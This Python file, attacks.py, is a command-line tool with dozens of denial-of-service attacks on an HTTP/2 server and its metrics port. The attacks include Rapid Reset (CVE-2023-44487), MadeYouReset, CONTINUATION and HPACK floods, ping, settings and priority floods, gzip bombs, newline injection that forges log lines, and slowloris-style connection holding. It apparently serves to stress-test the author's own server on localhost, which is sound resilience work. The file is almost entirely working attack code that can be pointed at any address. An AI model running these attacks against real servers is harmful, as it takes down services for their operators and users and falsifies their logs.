"""What somebody who means harm sends to a server of HTTP/2 or to its metrics port.

    attacks.py NAME HOST:PORT [--ca FILE] [--token FILE]

runs one attack until it is killed, from the address 127.0.0.2, so that bounds of one address do not meet its
victims on this host. --token: goes with each of its calls. Four times a second it writes a line: how many connections it
has had, how many of them were cut by the other side, and how many bytes it has sent.
"""

import argparse
import functools
import gzip
import itertools
import os
import struct
import sys
import threading
import time

from http2_by_hand import (CONTINUATION, Connection, Cut, DATA, END_HEADERS, END_STREAM, FRAME_BYTES, GEMM, HEADERS,
                           KIB, MIB, OUTER_PRODUCT, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, TRANSPOSE_MESSAGE,
                           Target, UNKNOWN, WINDOW_UPDATE, field, frame, headers, identity, in_frames, message,
                           protobuf, varint)


def again(attack_once):
    """An attack on one connection, and on the next as soon as that is cut."""
    @functools.wraps(attack_once)
    def attack(target):
        while True:
            try:
                attack_once(target)
            except Cut:
                target.count(cuts=1)
                time.sleep(0.01)
    return attack


def send_for_ever(target, chunk, first=b""):
    connection = target.dial()
    connection.send(first)
    while True:
        connection.send(chunk)


@again
def continuations(target):
    """Headers without end: CONTINUATION frames of a field of 15,000 bytes each."""
    send_for_ever(target, frame(CONTINUATION, 0, 1, field(b"x", b"a" * 15000)) * 16, frame(HEADERS, 0, 1, headers()))


@again
def tiny_fields(target):
    """Headers without end, of fields of one letter, each of which takes much more memory than bytes on the wire."""
    send_for_ever(target, frame(CONTINUATION, 0, 1, field(b"x", b"a") * 3200) * 16, frame(HEADERS, 0, 1, headers()))


@again
def huge_string(target):
    """A header field announced as 1 GiB long."""
    block = headers() + b"\0" + varint(1, 7) + b"x" + varint(1 << 30, 7)
    send_for_ever(target, frame(CONTINUATION, 0, 1, b"a" * FRAME_BYTES) * 16, frame(HEADERS, 0, 1, block))


@again
def indexed_fields(target):
    """A field of 4,000 bytes is put into HPACK's table, and named by one byte 16,000 times in each call."""
    connection = target.dial()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                          headers() + b"\x40" + varint(1, 7) + b"y" + varint(4000, 7) + b"a" * 4000))
    for stream in itertools.count(3, 2):
        block = headers() + b"\xbe" * 16000  # the newest entry of the table
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))


def end_each_call(target, kind, value):
    """Calls that are begun and ended at once by a frame with one number."""
    connection = target.dial()
    block, end = headers(), struct.pack(">I", value)
    for first in itertools.count(1, 200):
        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(kind, 0, stream, end)
                                 for stream in range(first, first + 200, 2)))


@again
def resets(target):
    """Calls that are begun and reset at once (CVE-2023-44487)."""
    end_each_call(target, RST_STREAM, 8)


def reset_and_leave(target, calls):
    """One connection of so many calls that are begun and reset, and the next one at once."""
    block, end = headers(), struct.pack(">I", 8)
    burst = b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, end)
                     for stream in range(1, 2 * calls, 2))
    while True:
        try:
            connection = target.dial()
            connection.send(burst)
            connection.close()
        except (Cut, OSError):
            target.count(cuts=1)
            time.sleep(0.001)


def resets_and_leave_30(target):
    """Connections of 30 calls that are reset at once, one connection after the other, without a token."""
    identity.clear()
    reset_and_leave(target, 30)


def resets_and_leave_200(target):
    """The same with 200 calls, and a token."""
    reset_and_leave(target, 200)


def resets_and_leave_900(target):
    """The same with 900 calls, without a token."""
    identity.clear()
    reset_and_leave(target, 900)


def resets_and_leave_2240(target):
    """The same with 2,240 calls, and a token."""
    reset_and_leave(target, 2240)


def resets_beside(target):
    """The same with 200 calls, from the address that the victim has too, without a token."""
    identity.clear()
    target.source = "127.0.0.1"
    reset_and_leave(target, 200)


@again
def wrong_tokens(target):
    """Calls with a token that nobody has, one after the other and on one connection after the other."""
    identity[:] = [(b"authorization", b"Bearer " + b"0" * 64)]
    connection = target.dial()
    for stream in range(1, 20001, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, headers()) + in_frames(stream, TRANSPOSE_MESSAGE))
    connection.close()


@again
def made_resets(target):
    """Calls that the server has to reset itself: a window update of zero for each (CVE-2025-8671)."""
    end_each_call(target, WINDOW_UPDATE, 0)


@again
def pings(target):
    """PING frames (CVE-2019-9512)."""
    send_for_ever(target, frame(PING, 0, 0, b"12345678") * 1000)


@again
def settings(target):
    """Empty SETTINGS frames, each of which must be acknowledged (CVE-2019-9515)."""
    send_for_ever(target, frame(SETTINGS, 0, 0) * 1000)


@again
def priorities(target):
    """PRIORITY frames of streams that are not there (CVE-2019-9513)."""
    send_for_ever(target, b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16)) for stream in range(1, 2000, 2)))


@again
def unknown_frames(target):
    """Frames of a type that HTTP/2 does not have, which must be ignored."""
    send_for_ever(target, frame(UNKNOWN, 0, 0, b"a" * FRAME_BYTES) * 16)


@again
def window_updates(target):
    """A window of the connection that is widened by one byte at a time."""
    send_for_ever(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000)


@again
def empty_data(target):
    """A call with DATA frames of no bytes and no end (CVE-2019-9518)."""
    send_for_ever(target, frame(DATA, 0, 1) * 1000, frame(HEADERS, END_HEADERS, 1, headers()))


@again
def garbage(target):
    """Random bytes behind the preface."""
    connection = target.dial()
    while True:
        connection.send(os.urandom(64 * KIB))


@again
def gzip_bombs(target):
    """Calls whose messages are 32 MiB of zeros, compressed to a thousandth."""
    body = message(gzip.compress(bytes(32 * MIB), 9), compressed=True)
    connection = target.dial()
    for stream in itertools.count(1, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, headers(more=[(b"grpc-encoding", b"gzip")]))
                        + in_frames(stream, body))
        time.sleep(0.02)


@again
def unbounded_calls(target):
    """Small calls, as many as go through the connection: the server's SETTINGS, with how many there may be at a time,
    are never acknowledged."""
    connection = target.dial()
    body = in_frames(1, TRANSPOSE_MESSAGE)[9:]
    call = frame(HEADERS, END_HEADERS, 0, headers()), frame(DATA, END_STREAM, 0, body)
    for first in itertools.count(1, 200):
        connection.send(b"".join(part[:5] + struct.pack(">I", stream) + part[9:]
                                 for stream in range(first, first + 200, 2) for part in call))


@again
def forged_lines(target):
    """Calls whose :scheme holds a line break, and whose variant is no text: libraries write both to the log."""
    connection = target.dial()
    for first in itertools.count(1, 40):
        for stream in range(first, first + 40, 4):
            spoilt = message(protobuf(1, b"") + protobuf(3, b"\xff\xfe\ntime=forged level=error"))
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, headers(scheme=b"ht\ntime=forged level=error"))
                            + frame(HEADERS, END_HEADERS, stream + 2, headers()) + in_frames(stream + 2, spoilt))
        time.sleep(0.01)


def hold(target, count, begin, keep=None):
    """So many connections at a time, each begun and then kept, with `keep` called once a second. Those that are cut
    are opened anew."""
    connections = []
    while True:
        alive = []
        for connection in connections:
            try:
                if not connection.is_open():
                    raise Cut
                if keep is not None:
                    keep(connection)
                alive.append(connection)
            except (Cut, OSError):
                connection.close()
                target.count(cuts=1)
        connections = alive
        refused = 0
        while len(connections) < count and refused < 20:
            try:
                connections.append(begin(target))
            except Cut:
                refused += 1
                target.count(cuts=1)
        time.sleep(1)


def ask(connection, calls):
    for stream in range(1, 2 * calls, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, headers(GEMM)) + in_frames(stream, OUTER_PRODUCT))
    return connection


def window(size):
    return struct.pack(">HI", 4, size)  # SETTINGS_INITIAL_WINDOW_SIZE


def widen(connection):
    connection.send(b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 17, 2)))


def begin_message(target):
    connection = target.dial()
    for stream in range(1, 41, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, headers()) + frame(DATA, 0, stream, message(bytes(MIB))[:64]))
    return connection


def drip(connection):
    connection.send(b"".join(frame(DATA, 0, stream, b"\0") for stream in range(1, 41, 2)))


def begin_headers(target):
    connection = target.dial()
    connection.send(frame(HEADERS, 0, 1, headers()[:20]))
    return connection


class Bare(Connection):
    """A connection that is not one of HTTP/2, nor of TLS."""

    def __init__(self, target, data=b""):
        self.target, self.socket = target, target.bare()
        self.socket.setblocking(False)
        self.send(data)


def unread_results(target):
    """128 results of 2 MiB, for which the client's windows stay closed (CVE-2019-9517)."""
    hold(target, 16, lambda target: ask(target.dial(window(0)), 8))


def dripping_windows(target):
    """The same, with windows that are widened by a byte a second (CVE-2019-9511)."""
    hold(target, 16, lambda target: ask(target.dial(window(0)), 8), widen)


def dripping_messages(target):
    """320 messages announced as 1 MiB, of which a byte a second is sent."""
    hold(target, 16, begin_message, drip)


def slow_headers(target):
    """200 calls whose headers do not come to an end, an empty CONTINUATION a second."""
    hold(target, 200, begin_headers, lambda connection: connection.send(frame(CONTINUATION, 0, 1)))


def begin_calls(target):
    """120 calls that lack their last byte."""
    connection = target.dial()
    for stream in range(1, 241, 2):
        connection.send(frame(HEADERS, END_HEADERS, stream, headers()) + frame(DATA, 0, stream, TRANSPOSE_MESSAGE[:-1]))
    return connection


def stalled_uploads(target):
    """2,400 calls that lack their last byte, on 20 connections, which stay open."""
    hold(target, 20, begin_calls)


def silent_connections(target):
    """300 connections that never say a word."""
    hold(target, 300, Bare)


def idle_connections(target):
    """1,200 connections of HTTP/2 that do nothing."""
    hold(target, 1200, lambda target: target.dial())


def in_threads(loop):
    """Runs a loop that does not end on eight threads."""
    threads = [threading.Thread(target=loop, daemon=True) for _ in range(8)]
    for thread in threads:
        thread.start()
    threads[0].join()


def connect_and_leave(target):
    """Connections that send a call and close, as fast as they can be made."""
    call = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS | END_STREAM, 1, headers())

    def loop():
        while True:
            try:
                if target.tls:
                    connection = target.dial()
                    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, headers()))
                else:
                    connection = Bare(target, call)
                connection.close()
            except (Cut, OSError):
                target.count(cuts=1)
                time.sleep(0.001)
    in_threads(loop)


def metrics_clients(target):
    """200 clients of the metrics port that send their requests byte by byte."""
    hold(target, 200, lambda target: Bare(target, b"GET /metrics HTTP/1.1\r\n"), lambda connection: connection.send(b"X"))


def scrapes(target):
    """Clients of the metrics port that ask for all metrics and read nothing, as fast as they can be made."""
    ask = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"".join(
        name.title() + b": " + value + b"\r\n" for name, value in identity) + b"\r\n"
    kept = []
    while True:
        try:
            kept.append(Bare(target, ask))
        except (Cut, OSError):
            target.count(cuts=1)
            time.sleep(0.001)
        if len(kept) > 100:
            kept.pop(0).close()


def endless_requests(target):
    """Clients of the metrics port whose requests do not come to an end."""
    def loop():
        while True:
            try:
                connection = Bare(target, b"GET /healthz HTTP/1.1\r\n")
                while True:
                    connection.send(b"X: " + b"a" * 60000 + b"\r\n")
            except (Cut, OSError):
                target.count(cuts=1)
                time.sleep(0.001)
    in_threads(loop)


ATTACKS = {attack.__name__: attack for attack in (
    continuations, tiny_fields, huge_string, indexed_fields, resets, resets_and_leave_30, resets_and_leave_200,
    resets_and_leave_900, resets_and_leave_2240, resets_beside, wrong_tokens, made_resets, pings, settings, priorities,
    unknown_frames, window_updates, empty_data, garbage, gzip_bombs, unbounded_calls, forged_lines, unread_results,
    dripping_windows, dripping_messages, slow_headers, stalled_uploads, silent_connections, idle_connections,
    connect_and_leave, metrics_clients, scrapes, endless_requests)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--ca")
    parser.add_argument("--token")
    arguments = parser.parse_args()
    if arguments.token:
        with open(arguments.token, "rb") as file:
            identity.append((b"authorization", b"Bearer " + file.read().strip()))
    target = Target(arguments.address, arguments.ca)

    def tell():
        while True:
            time.sleep(0.25)
            with target.lock:
                print(target.connections, target.cuts, target.sent, flush=True)

    threading.Thread(target=tell, daemon=True).start()
    try:
        ATTACKS[arguments.attack](target)
    except BrokenPipeError:
        sys.exit()


if __name__ == "__main__":
    main()
